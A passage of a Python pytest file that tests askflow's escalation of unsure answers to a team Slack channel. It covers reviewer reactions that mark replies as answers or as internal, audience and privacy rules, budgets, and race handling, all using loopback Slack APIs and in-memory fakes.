"""When askflow is not sure, a person answers: the loopback Slack workspace end to end (the Slack webhook, the API and
the answer worker under functions-framework, the emulators), and the escalation's rules on in-memory fakes."""

from __future__ import annotations

import datetime as dt
import json
import time

import pytest
from google.cloud import firestore

from askflow.adapters.memory import InMemoryBudgets, InMemoryEvaluationRuns, InMemoryRequestStore
from askflow.config import Settings
from askflow.domain.budgets import BudgetLimits
from askflow.domain.clock import utcnow
from askflow.domain.model import Escalation, Graded, Request, RequestStatus, SlackThread
from askflow.ports import Escalations, ThreadReply
from askflow.service_layer.escalation import answered, ask_for_person, escalate, take_marked_answers
from tests.support.loopback_apis import SlackAPI
from tests.test_ask_path import _settings, ask, call, indexed, wait_terminal  # noqa: F401 - the indexed docs
from tests.test_slack_bot import event, wait_for
from tests.test_slack_bot import post as post_once

NOTHING_COVERS = "Sourdough starter hydration ratios?"


def post(url: str, body: bytes, **kwargs):
    """A signed post to the Slack function, tried again when this busy machine keeps it past the client's time-out
    (Slack itself retries an event it got no answer to: the handlers are idempotent)."""
    for _ in range(3):
        try:
            return post_once(url, body, **kwargs)
        except TimeoutError:
            continue
    return post_once(url, body, **kwargs)


class Workspace(SlackAPI):
    """The loopback Slack Web API with channels' members (``conversations.members``, ``users.info``), the bot's
    top-level posts kept in their channel's history with their metadata (as Slack keeps them), and a reply's thread
    read by the reply's ``ts`` (``conversations.replies`` takes either)."""

    def __init__(self) -> None:
        super().__init__()
        self.members = {"CPUB": ["UASK", "URV", "UOUT"], "CPRIV": ["UASK", "UPRIV"], "CESC": ["URV", "UTEAM"]}
        self.private_channels = {"CPRIV"}
        self.groups = {"SREVIEW": ["URV"]}  # user groups' members (``usergroups.users.list``)

    def respond(self, method, path, query, body):
        params, name = {**query, **body}, path.rsplit("/", 1)[-1]
        if name == "conversations.members":
            return 200, {"ok": True, "members": self.members[params["channel"]],
                         "response_metadata": {"next_cursor": ""}}
        if name == "users.info":
            return 200, {"ok": True, "user": {"id": params["user"], "is_restricted": False}}
        if name == "usergroups.users.list":
            return 200, {"ok": True, "users": self.groups.get(params["usergroup"], [])}
        if name == "conversations.replies":
            root = next((m for m in self.channels.get(params["channel"], [])
                         if m["ts"] == params["ts"] or any(r["ts"] == params["ts"] for r in m.get("replies", []))),
                        None)
            params = params | ({"ts": root["ts"]} if root else {})
            return 200, self._thread(params)
        status, payload = super().respond(method, path, query, body)
        if name == "chat.postMessage" and params.get("metadata") and not params.get("thread_ts"):
            with self._lock:
                self.channels.setdefault(params["channel"], []).append(
                    {"ts": payload["ts"], "user": self.BOT_USER, "text": params.get("text", ""),
                     "metadata": params["metadata"], "replies": []})
        if name == "conversations.history":
            kept = {m["ts"]: m.get("metadata") for m in self.channels.get(params["channel"], [])}
            for message in payload.get("messages", []):
                if kept.get(message["ts"]):
                    message["metadata"] = kept[message["ts"]]
        return status, payload

    def posts_in(self, channel: str, *, thread_ts: str | None = None) -> list[dict]:
        return [m for m in self.posted if m["channel"] == channel and m.get("thread_ts") == thread_ts]


@pytest.fixture(scope="module")
def slack_api():
    api = Workspace()
    yield api
    api.stop()


@pytest.fixture(scope="module")
def stack(local_stack, indexed, pg_url, slack_api):  # noqa: F811
    settings = _settings(pg_url, "escalation", slack_bot_token="xoxb-test", slack_signing_secret="test-signing-secret",
                         slack_api_url=slack_api.base_url, slack_reviewers=["URV"], escalation_channel="CESC",
                         slack_workspace_audience="public", requests_collection="esc_requests",
                         public_url="https://askflow.example")
    api, _ = local_stack.start_functions(settings)
    slack = local_stack.start_slack(settings).url
    wait_for(lambda: _warm(slack), timeout_s=60)  # the function's first call builds its app
    return {"slack": slack, "api": api.url, "settings": settings}


def _warm(url: str) -> bool:
    try:
        return post_once(url, json.dumps({"type": "url_verification", "challenge": "c", "token": "t"}).encode())[0] \
            == 200
    except TimeoutError:
        return False


def _stored(request_id: str) -> dict:
    return firestore.Client(project="askflow-test").collection("esc_requests").document(request_id).get().to_dict() \
        or {}


def _reaction(user: str, channel: str, ts: str, event_id: str, reaction: str = "white_check_mark") -> bytes:
    return json.dumps({
        "token": "legacy", "team_id": "T1", "api_app_id": "A1", "type": "event_callback", "event_id": event_id,
        "event_time": int(time.time()), "authorizations": [{"user_id": "UBOT", "is_bot": True}],
        "event": {"type": "reaction_added", "user": user, "reaction": reaction, "item_user": "UTEAM",
                  "item": {"type": "message", "channel": channel, "ts": ts}, "event_ts": f"{int(time.time())}.1"},
    }).encode()


def _react(url: str, user: str, channel: str, ts: str, event_id: str) -> int:
    return post(url, _reaction(user, channel, ts, event_id))[0]


def test_a_question_nothing_covers_goes_to_the_team_and_their_answer_comes_back(stack, slack_api, pg_url):
    slack, api = stack["slack"], stack["api"]
    asked = event("Ev-esc-1", NOTHING_COVERS, channel="CPUB", user="UASK")
    assert post(slack, asked)[0] == 200
    assert post(slack, asked, headers={"X-Slack-Retry-Num": "1"})[0] == 200  # Slack delivers it again
    request_id = "slack-Ev-esc-1"
    stored = wait_for(lambda: (s := _stored(request_id)).get("escalation") and s.get("delivered_at") and s)
    assert stored["status"] == RequestStatus.COMPLETE and stored["not_sure"]
    assert stored["escalation"]["state"] == "open" and stored["escalation"]["channel"] == "CESC"
    escalated = slack_api.posts_in("CESC")
    assert len(escalated) == 1  # one message in the team's channel, however often the event came
    assert "Sourdough" in json.dumps(escalated[0]["blocks"]) and "<@UASK>" in json.dumps(escalated[0]["blocks"])
    thread_ts = json.loads(asked)["event"]["ts"]
    reply = wait_for(lambda: next((m for m in [*slack_api.posts_in("CPUB", thread_ts=thread_ts), *slack_api.updated]
                                   if "not sure the docs cover this" in json.dumps(m.get("blocks") or "")), None))
    assert "asked the team" in json.dumps(reply["blocks"])  # the honest reply, said first

    root = slack_api.channels["CESC"][-1]
    root["replies"].append({"ts": "1800000000.000200", "user": "UTEAM",
                            "text": "Let it proof for 4 to 6 hours at room temperature, until doubled."})
    assert _react(slack, "UOUT", "CESC", "1800000000.000200", "Ev-esc-2") == 200  # no reviewer: nothing
    assert _stored(request_id)["escalation"]["answer"] is None
    assert _react(slack, "URV", "CESC", "1800000000.000200", "Ev-esc-3") == 200
    assert _react(slack, "URV", "CESC", "1800000000.000200", "Ev-esc-3") == 200  # delivered twice
    team = _stored(request_id)["escalation"]
    assert team["state"] == "answered" and team["answer"]["marked_by"] == "slack:URV"
    delivered = [m for m in slack_api.posts_in("CPUB", thread_ts=thread_ts) if "The team answered" in m["text"]]
    assert len(delivered) == 1 and "4 to 6 hours" in delivered[0]["text"]
    from askflow.service_layer.handlers import public_view

    view = public_view(Request.model_validate(_stored(request_id)))  # what GET /requests/{id} shows (admins)
    assert view["escalation"]["answer"]["text"].startswith("Let it proof") and "CESC" not in json.dumps(view)
    assert call("GET", f"{api}requests/{request_id}")[0] == 404  # asked in Slack: not for anyone on the web
    assert view["answer"] == _stored(request_id)["answer"]  # askflow's own answer stays

    from askflow.bootstrap import Components
    from askflow.domain.messages import GradingDue
    from askflow.service_layer.evaluation import grade_events

    with Components(stack["settings"]) as c:  # the evaluation DAG's grading step, run here
        run = grade_events([GradingDue(request_id=request_id, revision=c.requests.get(request_id).revision())],
                           requests=c.requests, runs=c.evaluation_runs, store=c.store, embeddings=c.embeddings,
                           grader=c.grader, strategy=c.strategy(), answers_source=c.settings.answers_source,
                           answers_base_url=c.settings.answer_pages, batch_size=5, signals=c.signals,
                           collection=c.serving().collection)
    assert run.verified == 1
    again = wait_terminal(api, ask(api, "Sourdough starter: which hydration ratios?"))
    assert again["mode"] == "cached" and again["cached_from"] == request_id
    assert again["answer"].startswith("Let it proof")
    assert again["cached_verified_by"] == "reviewer in Slack"  # never a Slack user id


def test_a_private_channels_question_never_reaches_a_channel_that_may_not_read_it(stack, slack_api):
    before = len(slack_api.posts_in("CESC"))
    asked = event("Ev-esc-9", "Kombucha scoby pellicle?", channel="CPRIV", user="UASK")
    assert post(stack["slack"], asked)[0] == 200
    stored = wait_for(lambda: (s := _stored("slack-Ev-esc-9")).get("delivered_at") and s)
    assert stored["not_sure"] and stored["readers"] == ["slack:CPRIV"], stored
    assert stored["escalation"]["state"] == "skipped" and "may not read" in stored["escalation"]["why_not"]
    assert len(slack_api.posts_in("CESC")) == before


class Channel(Escalations):
    """The team's channel, in memory: what was posted, and a reply to read."""

    def __init__(self, readers=("public",)) -> None:
        self.posts: list[str] = []
        self.delivered: list[str] = []
        self._readers = list(readers)
        self.dies_after_post = False
        self.reactions: dict[str, list[str]] = {}  # the reply's, by name

    def readers(self):
        return self._readers

    def posted(self, request, *, since):
        return f"1.{self.posts.index(request.request_id)}" if request.request_id in self.posts else None

    def post(self, request, *, why):
        self.posts.append(request.request_id)
        if self.dies_after_post:
            self.dies_after_post = False
            raise ConnectionError("the worker died after the post")
        return f"1.{len(self.posts) - 1}"

    def reply(self, channel, ts):
        return ThreadReply(text="Use a pool [team].", author="UTEAM", thread_ts="1.0",
                           reactions=self.reactions) if ts == "2.0" else None

    def deliver(self, request, answer):
        self.delivered.append(request.request_id)


def _answered(request_id: str, *, asker: str = "asker-token-0123456789abcd", **fields) -> Request:
    from askflow.domain.model import token_sha

    return Request(request_id=request_id, question="How do I limit concurrency?", status=RequestStatus.COMPLETE,
                   answer="Nothing matches.", created_at=utcnow(), not_sure="no source matched the question",
                   asker_sha=token_sha(asker), readers=["public"], **fields)


def test_one_escalation_per_request_even_when_its_worker_died_after_posting():
    requests, channel = InMemoryRequestStore(), Channel()
    settings = Settings(escalation_channel="CESC")
    requests.create(_answered("r"))
    channel.dies_after_post = True
    with pytest.raises(ConnectionError):
        escalate(requests.get("r"), why="w", requests=requests, escalations=channel, budgets=None, settings=settings)
    from askflow.domain.errors import LeaseHeld

    with pytest.raises(LeaseHeld):  # the post is taken, and its taker's lease still runs: come back later
        escalate(requests.get("r"), why="w", requests=requests, escalations=channel, budgets=None, settings=settings)
    taken = requests.requests["r"]
    requests.requests["r"] = taken.model_copy(update={"escalation": taken.escalation.model_copy(
        update={"posting_at": taken.escalation.posting_at - dt.timedelta(minutes=5)})})  # its lease ran out
    first = escalate(requests.get("r"), why="w", requests=requests, escalations=channel, budgets=None,
                     settings=settings)
    again = escalate(requests.get("r"), why="w", requests=requests, escalations=channel, budgets=None,
                     settings=settings)
    assert channel.posts == ["r"] and first.state == again.state == "open" and first.ts == "1.0"


def test_a_repeat_joins_the_open_escalation_and_gets_its_answer_and_budgets_limit_escalations():
    requests, channel = InMemoryRequestStore(), Channel()
    settings = Settings(escalation_channel="CESC")
    budgets = InMemoryBudgets(BudgetLimits(escalations_per_asker=1))
    slack = SlackThread(channel="CPUB", ts="5.5", thread_ts="5.5", user="UASK")
    requests.create(_answered("first", budget_identities=["slack:UASK"]))
    requests.create(_answered("repeat", slack=slack, budget_identities=["slack:UOTHER"]))
    requests.create(_answered("other", budget_identities=["slack:UASK"]).model_copy(
        update={"question": "What is a sensor?"}))
    assert escalate(requests.get("first"), why="w", requests=requests, escalations=channel, budgets=budgets,
                    settings=settings).state == "open"
    joined = escalate(requests.get("repeat"), why="w", requests=requests, escalations=channel, budgets=budgets,
                      settings=settings)
    assert joined.state == "joined" and joined.joined == "first" and channel.posts == ["first"]
    limited = escalate(requests.get("other"), why="w", requests=requests, escalations=channel, budgets=budgets,
                       settings=settings)
    assert limited.state == "skipped" and "over budget" in limited.why_not

    done = answered("CESC", "2.0", marked_by="slack:URV", requests=requests, escalations=channel, settings=settings)
    assert done.team_answer.text == "Use a pool [team]." and requests.get("repeat").team_answer is not None
    assert channel.delivered == ["repeat"]  # the Slack asker's thread; the web asker reads it on the request
    answered("CESC", "2.0", marked_by="slack:URV", requests=requests, escalations=channel, settings=settings)
    assert channel.delivered == ["repeat"]  # marked again: delivered once


def test_only_the_asker_asks_for_a_person_and_no_channel_means_none():
    requests = InMemoryRequestStore()
    requests.create(_answered("r").model_copy(update={"not_sure": None}))
    from askflow.domain.errors import Forbidden

    with pytest.raises(Forbidden):
        ask_for_person("r", asker_token="someone-elses-token-012345", requests=requests, escalations=Channel(),
                       budgets=None, settings=Settings(escalation_channel="CESC"))
    skipped = ask_for_person("r", asker_token="asker-token-0123456789abcd", requests=requests, escalations=None,
                             budgets=None, settings=Settings())
    assert skipped.state == "skipped" and skipped.why_not == "no escalation channel is configured"


def test_the_admin_page_lists_escalations_open_and_answered_with_time_to_answer_and_reuse():
    from types import SimpleNamespace

    from flask import Request as FlaskRequest
    from werkzeug.test import EnvironBuilder

    from askflow.domain.model import Escalation, TeamAnswer
    from askflow.entrypoints.admin_api import handle

    requests = InMemoryRequestStore()
    asked = utcnow() - dt.timedelta(hours=3)
    requests.create(_answered("open-one").model_copy(update={"escalation": Escalation(
        state="open", why="w", asked_at=asked, channel="CESC", ts="1.1", thread="CESC/1.1")}))
    requests.create(_answered("done-one").model_copy(update={"question": "What is a pool?", "escalation": Escalation(
        state="answered", why="w", asked_at=asked, answer=TeamAnswer(
            text="A pool limits tasks.", by="slack:UTEAM", marked_by="slack:URV", at=asked + dt.timedelta(hours=2),
            ts="1.2"))}))
    for n in range(2):
        requests.create(_answered(f"served-{n}").model_copy(update={"cached_from": "done-one", "not_sure": None}))
    components = SimpleNamespace(settings=Settings(api_key="the-admin-key"), requests=requests)
    environ = EnvironBuilder(path="/admin", headers={"X-API-Key": "the-admin-key"}).get_environ()
    body, status, _ = handle(FlaskRequest(environ), components)
    assert status == 200
    table = body.split("<h2>Escalations</h2>", 1)[1].split("</table>", 1)[0]
    assert "1 open of the latest 2" in table and "CESC" not in table
    done = table.split("What is a pool?", 1)[1].split("</tr>", 1)[0]
    assert "answered" in done and "2.0 h" in done and "<td>2</td>" in done


def test_the_review_s_races_each_answer_once():
    """Found in review: two racing escalations posted twice; a failed delivery kept every joined asker waiting; a
    repeat that joined as the answer came waited for ever; a failed request's team answer was never learned; a
    joined request stored the team's answer again."""
    from askflow.domain.errors import Conflict
    from askflow.domain.model import Grade
    from askflow.learning.trust import trust

    requests, channel, settings = InMemoryRequestStore(), Channel(), Settings(escalation_channel="CESC")
    requests.create(_answered("r"))
    stale = requests.get("r")  # two workers read it before either escalated
    assert escalate(stale, why="w", requests=requests, escalations=channel, budgets=None, settings=settings).ts
    assert escalate(stale, why="w", requests=requests, escalations=channel, budgets=None,
                    settings=settings).state == "open"
    assert channel.posts == ["r"]  # posted once

    slack = SlackThread(channel="CPUB", ts="5.5", thread_ts="5.5", user="UASK")
    requests.create(_answered("j1", slack=slack))
    requests.create(_answered("j2", slack=slack.model_copy(update={"ts": "6.6", "thread_ts": "6.6"})))
    for joiner in ("j1", "j2"):
        assert escalate(requests.get(joiner), why="w", requests=requests, escalations=channel, budgets=None,
                        settings=settings).joined == "r"

    def failing_once(request, answer, calls=[]):  # noqa: B006 - counts the calls
        calls.append(request.request_id)
        if len(calls) == 1:
            raise ConnectionError("is_archived")
        channel.delivered.append(request.request_id)

    channel.deliver = failing_once
    answered("CESC", "2.0", marked_by="slack:URV", requests=requests, escalations=channel, settings=settings)
    assert all(requests.get(r).team_answer is not None for r in ("r", "j1", "j2"))  # written for all first
    assert len(channel.delivered) == 1  # one delivery failed, the other still went
    grade = Grade(helpfulness=1, relevance=1, public=True)
    assert not trust(requests.get("j1"), grade, is_good=True, reason="good").verified  # r is the one record
    assert trust(requests.get("r"), grade, is_good=True, reason="good").verified

    requests.create(_answered("late", slack=slack.model_copy(update={"ts": "7.7", "thread_ts": "7.7"})))
    stored = requests.get("late")
    requests.requests["r"] = requests.get("r").model_copy(update={"escalation": requests.get("r").escalation
                                                                  .model_copy(update={"state": "open"})})
    escalate(stored, why="w", requests=requests, escalations=channel, budgets=None, settings=settings)
    assert requests.get("late").team_answer is not None  # joined just as it was answered: it has the answer

    requests.create(_answered("broken").model_copy(update={"status": RequestStatus.FAILED}))
    with pytest.raises(Conflict):
        ask_for_person("broken", asker_token="asker-token-0123456789abcd", requests=requests, escalations=channel,
                       budgets=None, settings=settings)


def test_a_team_reply_is_published_as_plain_text_never_naming_slack_users_or_channels():
    from askflow.adapters.slack_escalations import plain_text

    text = plain_text("Ask <@U04BOB123> <!here>: the plan is in <#C07SECRET|acquisition-orion>, see "
                      "<https://docs.example/pools|the pools page> &amp; retry")
    assert "U04BOB123" not in text and "acquisition-orion" not in text and "C07SECRET" not in text
    assert "the pools page (https://docs.example/pools)" in text and "& retry" in text


def test_a_team_answer_marked_internal_reaches_its_asker_and_no_one_outside_the_internal_audience():
    """Before, a team's answer took the audience of the place it was asked in, and nothing could narrow it."""
    from askflow.domain.audiences import PUBLIC_VIEWER, Viewer
    from askflow.domain.messages import GradingDue
    from askflow.grading.graders import HeuristicGrader
    from askflow.ingest.chunking import ChunkingStrategy
    from askflow.learning.cache import AnswerCache
    from askflow.learning.votes import learned_answer
    from askflow.service_layer.escalation import marked_internal
    from askflow.service_layer.evaluation import grade_events
    from askflow.service_layer.handlers import recent_good_answers
    from tests.fakes import FakeVectorStore, HashEmbeddings

    requests, channel, store = InMemoryRequestStore(), Channel(), FakeVectorStore()
    settings = Settings(escalation_channel="CESC")  # the internal audience: the Slack workspace's members
    staff = Viewer.of([settings.escalation_internal_audience])
    slack = SlackThread(channel="CPUB", ts="5.5", thread_ts="5.5", user="UASK")
    requests.create(_answered("r").model_copy(update={"in_feed": True}))
    requests.create(_answered("j", slack=slack))
    escalate(requests.get("r"), why="w", requests=requests, escalations=channel, budgets=None, settings=settings)
    escalate(requests.get("j"), why="w", requests=requests, escalations=channel, budgets=None, settings=settings)
    answered("CESC", "2.0", marked_by="slack:URV", requests=requests, escalations=channel, settings=settings)

    def grade():
        grade_events([GradingDue(request_id="r", revision=requests.get("r").revision())], requests=requests,
                     runs=InMemoryEvaluationRuns(), store=store, embeddings=HashEmbeddings(), grader=HeuristicGrader(),
                     strategy=ChunkingStrategy(), answers_source="answers", answers_base_url="/answers", batch_size=5)
        return learned_answer(requests.get("r"), Graded.model_validate(requests.get("r").model_dump()),
                              fingerprints={}, collection="c", embedding_model="m")

    learned = grade()
    assert requests.get("r").verified and store.audiences_of(["answers:r"]) == {"answers:r": ["public"]}
    assert [r.request_id for r in recent_good_answers(requests=requests)] == ["r"]
    assert requests.get("r").readable_by(PUBLIC_VIEWER)

    class Signals:
        def verified_by_key(self, key, *, collection, readers=None):
            return [learned] if key == learned.question_key else []

        def nearest(self, vector, **kwargs):
            return [(learned, 1.0)]

        def forget(self, request_ids):
            raise AssertionError("an internal answer is not forgotten: it is served inside its audience")

    cache = AnswerCache(signals=Signals(), store=store, embeddings=HashEmbeddings(), collection="c", threshold=0.5,
                        requests=lambda: requests)
    assert cache.lookup(learned.question, viewer=PUBLIC_VIEWER).answer.request_id == "r"

    marked = marked_internal("CESC", "2.0", requests=requests, escalations=channel, settings=settings, store=store)
    assert marked.team_answer.internal == "slack:workspace" and marked.team_readers == ["slack:workspace"]
    assert requests.get("j").team_internal  # the repeat that joined it, too
    assert store.audiences_of(["answers:r"]) == {"answers:r": ["slack:workspace"]}  # relabelled at once
    assert cache.lookup(learned.question, viewer=PUBLIC_VIEWER) is None  # its learned record not yet graded again
    assert cache.lookup(learned.question, viewer=staff).answer.request_id == "r"
    assert recent_good_answers(requests=requests) == [] and not requests.get("r").in_feed  # the feed: never
    assert not requests.get("r").readable_by(PUBLIC_VIEWER) and requests.get("r").readable_by(staff)
    assert requests.get("r").readable_by(PUBLIC_VIEWER, token="asker-token-0123456789abcd")  # its asker: still
    revision = requests.get("r").revision()
    marked_internal("CESC", "2.0", requests=requests, escalations=channel, settings=settings, store=store)
    assert requests.get("r").revision() == revision  # marked again: nothing changes

    learned = grade()  # the grading the mark brought: the record and the stored answer narrowed, still verified
    assert requests.get("r").verified and learned.readers == ["slack:workspace"] and learned.verified
    assert store.audiences_of(["answers:r"]) == {"answers:r": ["slack:workspace"]}


def test_a_reply_marked_internal_before_it_is_marked_the_answer_is_stored_internal():
    settings = Settings(escalation_channel="CESC", escalation_internal_audience="employees")
    for lockers, internal in ((["UOUT"], None), (["UOUT", "URV"], "employees")):  # only a reviewer's lock counts
        requests, channel = InMemoryRequestStore(), Channel()
        requests.create(_answered("r"))
        escalate(requests.get("r"), why="w", requests=requests, escalations=channel, budgets=None, settings=settings)
        channel.reactions = {"lock": lockers, "tada": ["URV"]}
        done = answered("CESC", "2.0", marked_by="slack:URV", requests=requests, escalations=channel,
                        settings=settings, reviewer=lambda user: user == "URV")
        assert done.team_answer.internal == internal
        assert done.team_readers == (["employees"] if internal else ["public"])


def test_a_reviewers_lock_handled_while_the_check_mark_is_being_written_still_lands():
    """The lock and the check mark commute: a reviewer's 🔒 whose event is handled after the ✅ handler read the
    reply (no lock yet) but before its write finds no team answer to narrow; the ✅ handler reads the reply's
    reactions again after its write, and stores the answer internal."""
    from askflow.service_layer.escalation import marked_internal

    requests, channel = InMemoryRequestStore(), Channel()
    settings = Settings(escalation_channel="CESC")
    requests.create(_answered("r"))
    escalate(requests.get("r"), why="w", requests=requests, escalations=channel, budgets=None, settings=settings)
    is_reviewer = lambda user: user == "URV"  # noqa: E731
    write, locks = requests.answer_escalation, []

    def lock_lands_before_the_write(request_id, answer):
        channel.reactions = {"lock": ["URV"], "white_check_mark": ["URV"]}
        locks.append(marked_internal("CESC", "2.0", requests=requests, escalations=channel, settings=settings,
                                     marked_by="slack:URV", reviewer=is_reviewer))
        return write(request_id, answer)

    requests.answer_escalation = lock_lands_before_the_write
    channel.reactions = {"white_check_mark": ["URV"]}  # what the ✅ handler reads first
    done = answered("CESC", "2.0", marked_by="slack:URV", requests=requests, escalations=channel, settings=settings,
                    reviewer=is_reviewer)
    assert locks == [None]  # the lock's own handler found no team answer yet
    assert done.team_internal and done.team_readers == [settings.escalation_internal_audience]


@pytest.fixture()
def bolt():
    """The Slack app in this process (Bolt, signed events) over a loopback workspace whose reviewers are the user
    group ``SREVIEW``, with in-memory requests and stored answers."""
    from types import SimpleNamespace

    from slack_sdk import WebClient

    from askflow.adapters.slack_escalations import SlackEscalations
    from askflow.entrypoints.slack_app import build_app
    from tests.fakes import FakeVectorStore

    workspace = Workspace()
    settings = Settings(slack_bot_token="xoxb-test", slack_signing_secret="test-signing-secret",
                        slack_api_url=workspace.base_url, slack_reviewers=["SREVIEW"], escalation_channel="CESC")
    client = WebClient(token="xoxb-test", base_url=workspace.base_url)
    components = SimpleNamespace(
        settings=settings, slack_client=client, slack_replies=None, requests=InMemoryRequestStore(),
        store=FakeVectorStore(), budgets=None, events=None, slack_audiences=None,
        escalations=SlackEscalations(client=client, channel="CESC", audiences=SimpleNamespace(
            place_audiences=lambda channel, user: ["public"])))
    yield SimpleNamespace(app=build_app(components), workspace=workspace, c=components, settings=settings)
    workspace.stop()


def _dispatch(app, body: bytes) -> int:
    import hashlib
    import hmac

    from slack_bolt.request import BoltRequest

    ts = str(int(time.time()))
    signature = "v0=" + hmac.new(b"test-signing-secret", f"v0:{ts}:".encode() + body, hashlib.sha256).hexdigest()
    return app.dispatch(BoltRequest(body=body.decode(), headers={
        "content-type": "application/json", "x-slack-request-timestamp": ts, "x-slack-signature": signature})).status


def _escalated_with_reply(bolt, request_id: str, reply_ts: str, question: str) -> dict:
    """``request_id`` escalated to CESC through the loopback, and a team member's reply in its thread."""
    c = bolt.c
    c.requests.create(_answered(request_id).model_copy(update={"question": question}))
    escalate(c.requests.get(request_id), why="w", requests=c.requests, escalations=c.escalations, budgets=None,
             settings=bolt.settings)
    root = bolt.workspace.channels["CESC"][-1]
    reply = {"ts": reply_ts, "user": "UTEAM", "text": f"The team on {question}"}
    root["replies"].append(reply)
    return reply


def test_a_reviewers_lock_marks_the_team_answer_internal_before_or_after_it_is_marked(bolt):
    c, internal = bolt.c, bolt.settings.escalation_internal_audience
    _escalated_with_reply(bolt, "after", "1800000001.000200", "How do pools work?")
    assert _dispatch(bolt.app, _reaction("URV", "CESC", "1800000001.000200", "Ev-1")) == 200
    assert c.requests.get("after").team_answer is not None and not c.requests.get("after").team_internal
    assert _dispatch(bolt.app, _reaction("UOUT", "CESC", "1800000001.000200", "Ev-2", "lock")) == 200
    assert not c.requests.get("after").team_internal  # not a reviewer's
    assert _dispatch(bolt.app, _reaction("URV", "CESC", "1800000001.000200", "Ev-3", "lock")) == 200
    assert c.requests.get("after").team_answer.internal == internal

    reply = _escalated_with_reply(bolt, "before", "1800000002.000200", "What is a sensor?")
    reply["reactions"] = [{"name": "lock", "users": ["URV"], "count": 1}]
    assert _dispatch(bolt.app, _reaction("URV", "CESC", "1800000002.000200", "Ev-4", "lock")) == 200
    assert c.requests.get("before").team_answer is None  # not the answer yet: nothing to narrow
    assert _dispatch(bolt.app, _reaction("URV", "CESC", "1800000002.000200", "Ev-5")) == 200
    assert c.requests.get("before").team_answer.internal == internal  # the lock it already had counts


def test_a_skip_that_may_pass_is_retried_by_a_later_request_for_a_person_and_the_audience_rule_stays():
    """Before, a skipped escalation was kept for ever: "Ask a person" returned the old skip."""
    token = "asker-token-0123456789abcd"
    requests, channel = InMemoryRequestStore(), Channel()
    requests.create(_answered("r"))
    first = ask_for_person("r", asker_token=token, requests=requests, escalations=None, budgets=None,
                           settings=Settings())
    assert first.state == "skipped" and first.retriable
    settings = Settings(escalation_channel="CESC")
    assert escalate(requests.get("r"), why="w", requests=requests, escalations=channel, budgets=None,
                    settings=settings) == first  # a delivery retried: the skip it made stands
    again = ask_for_person("r", asker_token=token, requests=requests, escalations=channel, budgets=None,
                           settings=settings)  # the channel is configured now, and the asker asks again
    assert again.state == "open" and channel.posts == ["r"] and requests.get("r").escalation.state == "open"

    budgets = InMemoryBudgets(BudgetLimits(escalations_total=0))
    requests.create(_answered("b").model_copy(update={"question": "What is a sensor?"}))
    over = ask_for_person("b", asker_token=token, requests=requests, escalations=channel, budgets=budgets,
                          settings=settings)
    assert over.state == "skipped" and "over budget" in over.why_not
    budgets = InMemoryBudgets(BudgetLimits(escalations_total=1))  # the next window
    assert ask_for_person("b", asker_token=token, requests=requests, escalations=channel, budgets=budgets,
                          settings=settings).state == "open"
    assert channel.posts == ["r", "b"]

    channel = Channel(readers=["slack:CTEAM"])
    requests.create(_answered("p").model_copy(update={"question": "Where is the vault?", "readers": ["slack:CPRIV"]}))
    private = ask_for_person("p", asker_token=token, requests=requests, escalations=channel, budgets=None,
                             settings=settings)
    assert private.state == "skipped" and private.why_not == Escalation.MAY_NOT_READ and not private.retriable
    channel._readers = ["slack:CTEAM", "slack:CPRIV"]
    assert ask_for_person("p", asker_token=token, requests=requests, escalations=channel, budgets=None,
                          settings=settings) == private  # the audience rule's skip stays
    assert channel.posts == []


def test_a_reaction_costs_no_reviewers_check_until_it_is_on_a_reply_in_a_known_escalations_thread(bolt):
    """Before, every ✅ anywhere in the workspace asked Slack for the reviewers group's members."""
    c, workspace = bolt.c, bolt.workspace
    _escalated_with_reply(bolt, "r", "1800000003.000200", "How do pools work?")
    root_ts = workspace.channels["CESC"][-1]["ts"]
    workspace.channels["CESC"].append({"ts": "1800000004.000100", "user": "UTEAM", "text": "lunch?",
                                       "replies": [{"ts": "1800000004.000200", "user": "URV", "text": "yes"}]})
    checks = lambda: workspace.counts()["usergroups.users.list"]  # noqa: E731
    for n, (channel, ts, reaction) in enumerate([
            ("CPUB", "1800000003.000200", "white_check_mark"),  # another channel
            ("CESC", root_ts, "white_check_mark"),  # the escalation's own post, no reply
            ("CESC", "1800000004.000200", "white_check_mark"),  # a reply in a thread that is no escalation's
            ("CESC", "1800000004.000200", "lock"),
            ("CESC", "1800000009.000100", "white_check_mark"),  # no such message
            ("CESC", "1800000003.000200", "tada")]):  # another reaction
        assert _dispatch(bolt.app, _reaction("URV", channel, ts, f"Ev-c{n}", reaction)) == 200
    assert checks() == 0 and c.requests.get("r").team_answer is None
    assert _dispatch(bolt.app, _reaction("UOUT", "CESC", "1800000003.000200", "Ev-c9")) == 200
    assert checks() == 1 and c.requests.get("r").team_answer is None  # checked, and not a reviewer
    assert _dispatch(bolt.app, _reaction("URV", "CESC", "1800000003.000200", "Ev-c10")) == 200
    assert c.requests.get("r").team_answer.marked_by == "slack:URV"


def test_a_marked_reply_is_read_alone_however_long_its_thread_and_a_failed_read_is_raised():
    """The reply a reaction names is read by itself (one ``conversations.replies`` call bounded to its ``ts``), not
    by paging the whole thread: found far down a long thread in one call; a message that does not exist is no reply;
    any other failure to read it is raised, so the reaction's event is not acknowledged and Slack delivers it
    again."""
    from types import SimpleNamespace

    from slack_sdk import WebClient
    from slack_sdk.errors import SlackApiError

    from askflow.adapters.slack_escalations import SlackEscalations

    class Unreadable(Workspace):
        """``CGONE`` cannot be read (``channel_not_found``)."""

        def respond(self, method, path, query, body):
            if path.endswith("/conversations.replies") and {**query, **body}.get("channel") == "CGONE":
                return 200, {"ok": False, "error": "channel_not_found"}
            return super().respond(method, path, query, body)

    workspace = Unreadable()
    try:
        workspace.max_page = 2  # Slack's pages, made small
        replies = [{"ts": f"1800000005.{n:06d}", "user": "UTEAM", "text": f"reply {n}"} for n in range(1, 8)]
        workspace.channels["CESC"] = [{"ts": "1800000005.000000", "user": "UBOT", "text": "q", "replies": replies}]
        escalations = SlackEscalations(client=WebClient(token="xoxb-test", base_url=workspace.base_url),
                                       channel="CESC", audiences=SimpleNamespace())
        found = escalations.reply("CESC", "1800000005.000007")
        assert found is not None and found.text == "reply 7" and found.thread_ts == "1800000005.000000"
        assert workspace.counts()["conversations.replies"] == 1  # the one message, whatever the thread's length
        assert escalations.reply("CESC", "1800000005.000099") is None  # no such message
        workspace.channels["CESC"].clear()  # ``thread_not_found``
        assert escalations.reply("CESC", "1800000005.000007") is None
        broken = SlackEscalations(client=WebClient(token="xoxb-test", base_url=workspace.base_url),
                                  channel="CGONE", audiences=SimpleNamespace())
        with pytest.raises(SlackApiError):  # channel_not_found: not taken as "no reply"
